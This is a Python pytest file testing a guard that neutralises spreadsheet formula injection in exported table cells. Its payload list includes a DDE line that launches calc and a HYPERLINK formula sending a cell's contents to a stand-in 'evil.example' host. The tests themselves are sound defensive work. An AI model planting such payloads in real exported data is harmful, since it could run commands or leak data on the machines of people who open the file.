"""Class 24: no cell of a table that leaves does anything in a spreadsheet."""

from __future__ import annotations

import pytest

from ombud.bundles.safety import cell
from ombud.bundles.tables import COLUMNS, as_row

EVIL = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "|calc", "%0A=1", " =1", "\n=1"),
    *("\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
)


@pytest.mark.parametrize("evil", EVIL)
def test_a_formula_is_shown_and_not_run(evil: str) -> None:
    assert cell(evil) == f"'{evil}"


@pytest.mark.parametrize("plain", ["", "Cleo", "2026-01-01", "a=1", "x@lumen.example", "ß"])
def test_what_is_no_formula_stays_as_it_is(plain: str) -> None:
    assert cell(plain) == plain


def test_every_column_of_the_table_goes_through_the_guard() -> None:
    row = as_row(dict.fromkeys(COLUMNS, "=1+1")).decode()

    assert row == ",".join(["'=1+1"] * len(COLUMNS)) + "\r\n"
